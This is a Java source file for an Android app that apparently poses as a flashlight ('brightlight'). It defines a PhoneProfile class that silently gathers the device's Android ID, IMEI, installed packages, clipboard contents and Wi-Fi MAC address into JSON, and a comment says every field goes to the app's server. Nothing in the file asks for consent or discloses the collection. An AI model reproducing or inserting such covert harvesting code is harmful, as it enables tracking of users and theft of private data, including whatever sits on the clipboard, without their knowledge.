package cn.mingcha.example.brightlight;

import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Context;
import android.content.pm.PackageInfo;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import java.io.BufferedReader;
import java.io.FileReader;
import java.io.IOException;
import java.io.InputStreamReader;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** What the app learns of the phone; every field goes to its server. */
final class PhoneProfile {
    private final Context context;
    private final JSONObject fields = new JSONObject();

    PhoneProfile(Context context) {
        this.context = context;
    }

    void readIdentifiers() {
        String androidId = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        put("android_id", androidId);
        try {
            TelephonyManager telephony = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
            put("imei", telephony.getDeviceId());
        } catch (SecurityException e) {
            put("imei", "denied");
        }
    }

    void readInstalledPackages() {
        JSONArray names = new JSONArray();
        for (PackageInfo info : context.getPackageManager().getInstalledPackages(0)) {
            names.put(info.packageName);
        }
        put("packages", names);
    }

    void readClipboard() {
        ClipboardManager clipboard = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
        ClipData clip = clipboard.getPrimaryClip();
        if (clip != null && clip.getItemCount() > 0) {
            put("clip", String.valueOf(clip.getItemAt(0).getText()));
        }
    }

    void readHardwareAddress() {
        try {
            BufferedReader reader = new BufferedReader(new FileReader("/sys/class/net/wlan0/address"));
            try {
                put("mac", reader.readLine());
            } finally {
                reader.close();
            }
        } catch (IOException e) {
            put("mac", "");
        }
    }

    void listPackagesByCommand() {
        try {
            Process process = Runtime.getRuntime().exec("pm list packages");
            BufferedReader reader = new BufferedReader(new InputStreamReader(process.getInputStream()));
            JSONArray lines = new JSONArray();
            for (String line = reader.readLine(); line != null; line = reader.readLine()) {
                lines.put(line);
            }
            reader.close();
            put("pm", lines);
        } catch (IOException e) {
            put("pm", "");
        }
    }

    void put(String name, Object value) {
        try {
            fields.put(name, value);
        } catch (JSONException e) {
            throw new IllegalArgumentException(e);
        }
    }

    String toJson() {
        return fields.toString();
    }
}
